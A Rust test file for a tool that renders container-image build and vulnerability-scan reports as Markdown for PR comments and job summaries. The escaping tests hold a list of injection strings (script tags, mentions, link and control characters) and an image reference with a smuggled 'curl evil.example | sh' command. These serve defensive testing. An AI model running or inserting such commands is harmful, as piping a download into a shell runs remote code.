//! Snapshots of the Markdown, and the limits it must respect.

use golden_report::comment;
use golden_report::escape::{ZWJ, md};
use golden_report::markdown::{COMMENT_LIMIT, RenderOptions, render};

use crate::fixtures::{self, write_set};
use crate::{RUN_URL, fixture, report};

const KEY: &str = "golden-images:configs/build-config.yaml";

fn comment_body(r: &golden_report::aggregate::Report) -> String {
    let reserved = comment::marker(KEY).chars().count() + 1;
    comment::body(
        KEY,
        &render(r, &RenderOptions::comment(Some(RUN_URL.into()), reserved)),
    )
}

#[test]
fn all_green_against_a_baseline() {
    let r = report(&fixture("green"), Some(&fixture("baseline")));
    assert_eq!(r.summary.totals.failed, 0);
    let body = comment_body(&r);
    golden_report::comment_file::check_body(KEY, &body).unwrap();
    insta::assert_snapshot!("all_green", body);
}

#[test]
fn all_green_without_a_baseline() {
    let r = report(&fixture("green"), None);
    insta::assert_snapshot!("all_green_no_baseline", comment_body(&r));
}

#[test]
fn mixed_failures_list_failed_builds_first_and_every_problem() {
    let r = report(&fixture("mixed"), None);
    let body = comment_body(&r);
    golden_report::comment_file::check_body(KEY, &body).unwrap();
    // Table order: failed build, then incomplete, then policy failures, then the rest.
    let rows: Vec<&str> = body
        .lines()
        .filter(|l| l.starts_with("| ") && l.contains("**"))
        .collect();
    assert!(
        rows[0].contains("nginx-1.26-debian") && rows[0].starts_with("| ❌"),
        "{rows:#?}"
    );
    assert!(
        rows.iter().position(|r| r.contains("python-3.11-debian"))
            > rows.iter().position(|r| r.contains("tomcat-10-debian"))
    );
    insta::assert_snapshot!("mixed", body);
}

#[test]
fn sixty_images_with_many_findings_stay_under_the_comment_limit() {
    let dir = tempfile::tempdir().unwrap();
    write_set(dir.path(), &fixtures::sixty());
    let r = report(dir.path(), None);
    assert_eq!(r.summary.images.len(), 60);
    let body = comment_body(&r);
    let n = body.chars().count();
    assert!(n < COMMENT_LIMIT, "{n} characters");
    // Trimmed, with a pointer to the job summary, and every image still in the table.
    assert!(
        body.contains("were trimmed") || body.contains("were left out"),
        "no trim note"
    );
    assert!(body.contains(&format!("[job summary]({RUN_URL})")));
    for i in &r.summary.images {
        assert!(
            body.contains(&format!("| **{}** |", i.id)),
            "{} missing",
            i.id
        );
    }
    golden_report::comment_file::check_body(KEY, &body).unwrap();
    insta::assert_snapshot!("sixty_images", body);

    // The job summary keeps much more, under its own 1 MiB byte limit.
    let summary = render(&r, &RenderOptions::job_summary(Some(RUN_URL.into())));
    assert!(summary.len() < golden_gha::SUMMARY_LIMIT);
    assert!(summary.len() > body.len());
}

#[test]
fn job_summary_is_trimmed_under_one_mib_with_a_note() {
    let dir = tempfile::tempdir().unwrap();
    write_set(dir.path(), &fixtures::many(200));
    let r = report(dir.path(), None);
    let full = render(&r, &RenderOptions::unlimited(Some(RUN_URL.into())));
    assert!(
        full.len() > golden_gha::SUMMARY_LIMIT,
        "{} bytes: not a trimming case",
        full.len()
    );
    let summary = render(&r, &RenderOptions::job_summary(Some(RUN_URL.into())));
    assert!(
        summary.len() < golden_gha::SUMMARY_LIMIT,
        "{} bytes",
        summary.len()
    );
    assert!(summary.contains("1 MiB limit"), "no trim note");
    // The table is complete.
    assert_eq!(summary.matches("| ⛔ | **platform").count(), 200);
}

#[test]
fn hostile_strings_cannot_break_out() {
    let r = report(&fixture("hostile"), None);
    let body = comment_body(&r);
    golden_report::comment_file::check_body(KEY, &body).unwrap();
    // Exactly one marker: the hostile title's copy is escaped.
    assert_eq!(body.matches("<!--").count(), 1);
    for bad in [
        "<script",
        "<img",
        "<a ",
        "<b>",
        "@octocat",
        "@admin",
        "@github/",
        "@everyone",
        "#1 ",
        "](http://evil",
        "![",
        "\u{202E}",
        "\r",
    ] {
        assert!(!body.contains(bad), "`{bad}` survived:\n{body}");
    }
    assert!(body.contains(&format!("@{ZWJ}octocat")));
    // Every row of every table keeps the cell count of its header: no `|` or newline got
    // through unescaped.
    let mut expected: Option<usize> = None;
    for line in body.lines() {
        if !line.starts_with('|') {
            expected = None;
            continue;
        }
        let cells = line.replace("\\|", "").matches('|').count() - 1;
        match expected {
            None => expected = Some(cells),
            Some(n) => assert_eq!(cells, n, "{line}"),
        }
    }
    // `<details>` opened == closed.
    assert_eq!(
        body.matches("<details>").count(),
        body.matches("</details>").count()
    );
    insta::assert_snapshot!("hostile", body);
}

#[test]
fn suppressed_findings_show_their_vex_justification_and_are_not_counted() {
    let r = report(&fixture("mixed"), None);
    let python = r
        .summary
        .images
        .iter()
        .find(|i| i.id == "python-3.11-debian")
        .unwrap();
    let scan = python.scan.as_ref().unwrap();
    // The VEX-suppressed CRITICAL is listed apart and not counted.
    assert_eq!(scan.vulnerabilities["CRITICAL"], 1, "only CVE-2024-45490");
    assert_eq!(scan.suppressed, 2);
    let ids: Vec<&str> = scan
        .suppressed_vulns
        .iter()
        .map(|v| v.id.as_str())
        .collect();
    assert_eq!(ids, ["CVE-2024-45491", "CVE-2022-0563"]);
    // The fork-safe comment data carries the status and justification as enums.
    let data = golden_report::pr_comment::CommentData::from_report(&r);
    data.validate().unwrap();
    let body = golden_report::pr_comment::render(&data, Some(RUN_URL), 40);
    assert!(
        body.contains("| critical | `CVE-2024-45491` | `libexpat1` | VEX `not_affected` | `vulnerable_code_not_in_execute_path` |"),
        "{body}"
    );
    assert!(
        body.contains("| low | `CVE-2022-0563` | `util-linux` | policy ignore | — |"),
        "{body}"
    );
    // Free text from the VEX document stays out of the fork-safe comment.
    assert!(!body.contains("python never parses XML"), "{body}");
    // The job summary shows the impact statement and where the statement is.
    let summary = render(&r, &RenderOptions::job_summary(None));
    assert!(
        summary.contains("| CRITICAL | CVE-2024-45491 | libexpat1 | VEX not_affected (`vulnerable_code_not_in_execute_path`) | python never parses XML with expat here"),
        "{summary}"
    );
}

/// The build record's cache sources reach summary.json as they are and the image's details as
/// one escaped note after the build time; a record without them shows no note.
#[test]
fn build_cache_sources_are_in_the_summary_and_the_details() {
    use golden_contracts::Document;
    use golden_contracts::build::{CacheSources, MissingCache};
    let dir = tempfile::tempdir().unwrap();
    let imgs = fixtures::green();
    write_set(dir.path(), &imgs);
    let nginx = imgs.iter().find(|i| i.platform == "nginx").unwrap();
    let mut rec = nginx.build_record();
    let cache = CacheSources {
        used: vec!["goldenimages.azurecr.io/golden/nginx:1.22-debian".into()],
        missing: vec![MissingCache {
            reference: "other.example/x:*bold*|pipe".into(),
            reason: "manifest unknown".into(),
        }],
        skipped_no_cache: false,
    };
    rec.cache = Some(cache.clone());
    rec.write(
        &dir.path()
            .join(format!("build-{}", nginx.id))
            .join("build-record.json"),
    )
    .unwrap();

    let r = report(dir.path(), None);
    let by_id = |id: &str| r.summary.images.iter().find(|i| i.id == id).unwrap();
    assert_eq!(by_id(&nginx.id).build.as_ref().unwrap().cache, Some(cache));
    assert_eq!(by_id("base-debian").build.as_ref().unwrap().cache, None);
    let json = serde_json::to_value(&r.summary).unwrap();
    let img = json["images"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["id"] == nginx.id.as_str())
        .unwrap();
    assert_eq!(
        img["build"]["cache"]["used"][0],
        "goldenimages.azurecr.io/golden/nginx:1.22-debian"
    );

    let full = render(&r, &RenderOptions::unlimited(Some(RUN_URL.into())));
    let line = full
        .lines()
        .find(|l| l.contains("**Build:**") && l.contains("(cache: "))
        .unwrap_or_else(|| panic!("no cache note in:\n{full}"));
    assert!(
        line.contains(
            "from goldenimages.azurecr.io/golden/nginx:1.22-debian; missing other.example/x:"
        ),
        "{line}"
    );
    assert!(!line.contains("*bold*|"), "unescaped reference: {line}");
    assert_eq!(
        full.matches("(cache: ").count(),
        1,
        "only nginx has cache sources"
    );
}

/// A scan report that counts its packages per kind (language packages among them): the job
/// summary's image details say so.
#[test]
fn packages_per_ecosystem_in_the_image_details() {
    let dir = tempfile::tempdir().unwrap();
    let mut imgs = fixtures::green();
    imgs.truncate(1);
    write_set(dir.path(), &imgs);
    let scan = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("scan-")
        })
        .unwrap()
        .join("report.json");
    let mut doc: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&scan).unwrap()).unwrap();
    doc["summary"]["packages"] = serde_json::json!(156);
    doc["summary"]["packages_by_kind"] = serde_json::json!({"dpkg": 120, "maven": 36});
    std::fs::write(&scan, serde_json::to_vec(&doc).unwrap()).unwrap();
    let r = report(dir.path(), None);
    let md = render(&r, &RenderOptions::unlimited(None));
    assert!(
        md.contains("**Packages**: 156 (dpkg 120, maven 36)"),
        "{md}"
    );
}

/// Pushed images: the job summary gives each one's `golden-report history` command once,
/// after the details (the index for a multi-arch image); the PR comment does not.
#[test]
fn pushed_images_give_their_audit_history_command_in_the_job_summary() {
    use golden_contracts::Document;
    use golden_contracts::push::Arch;
    let dir = tempfile::tempdir().unwrap();
    crate::site::write_pushed(dir.path());
    let base = fixtures::green().remove(0);
    let base_push = crate::site::push(&base, Arch::Amd64, false);
    let r = report(dir.path(), None);
    let summary = render(&r, &RenderOptions::job_summary(Some(RUN_URL.into())));
    let index = fixtures::digest("nginx-index");
    for (id, reference) in [
        ("nginx-1.26-debian", format!("r.io/golden/nginx@{index}")),
        ("base-debian", base_push.reference.clone().unwrap()),
    ] {
        let line = format!("- **{id}**: `golden-report history {reference}`");
        assert_eq!(summary.matches(&line).count(), 1, "{line}\n{summary}");
    }
    assert_eq!(summary.matches("golden-report history").count(), 2);
    assert_eq!(summary.matches("**Audit history**").count(), 1);
    // After the details, before the footer.
    let at = |s: &str| summary.find(s).unwrap_or_else(|| panic!("{s}: {summary}"));
    assert!(at("</details>") < at("**Audit history**"));
    assert!(at("**Audit history**") < at("_Report by golden-report"));
    let data = golden_report::pr_comment::CommentData::from_report(&r);
    let comment = golden_report::pr_comment::render(&data, Some(RUN_URL), 40);
    assert!(!comment.contains("golden-report history"), "{comment}");

    // A reference that is not a plain one is never offered as a command.
    let mut evil = base_push.clone();
    evil.reference = Some(format!(
        "r.io/golden/base`; curl evil.example | sh #@{}",
        base_push.digest.clone().unwrap()
    ));
    evil.write(&dir.path().join("push-base/push-record.json"))
        .unwrap();
    let r = report(dir.path(), None);
    let summary = render(&r, &RenderOptions::job_summary(Some(RUN_URL.into())));
    assert_eq!(
        summary.matches("golden-report history").count(),
        1,
        "{summary}"
    );
    assert!(!summary.contains("curl"), "{summary}");
}

/// Many pushed images: one command and the pattern, not a line each.
#[test]
fn many_pushed_images_get_one_audit_history_command_and_the_pattern() {
    use golden_contracts::Document;
    use golden_contracts::push::Arch;
    let dir = tempfile::tempdir().unwrap();
    let imgs: Vec<fixtures::Img> = (0..25)
        .map(|n| fixtures::Img::new(&format!("img-{n:02}"), "debian", &format!("p{n:02}"), "1"))
        .collect();
    write_set(dir.path(), &imgs);
    for i in &imgs {
        crate::site::push(i, Arch::Amd64, false)
            .write(&dir.path().join(format!("push-{}/push-record.json", i.id)))
            .unwrap();
    }
    let r = report(dir.path(), None);
    assert_eq!(r.digests.len(), 25);
    let summary = render(&r, &RenderOptions::job_summary(None));
    let first = &r.summary.images[0];
    assert_eq!(
        summary.matches("golden-report history").count(),
        2,
        "{summary}"
    );
    assert!(
        summary.contains(&format!(
            "`golden-report history {}` for **{}**, and `golden-report history REGISTRY/REPOSITORY@DIGEST` for each of the 24 other pushed images",
            r.digests[&first.id],
            md(&first.id)
        )),
        "{summary}"
    );
}
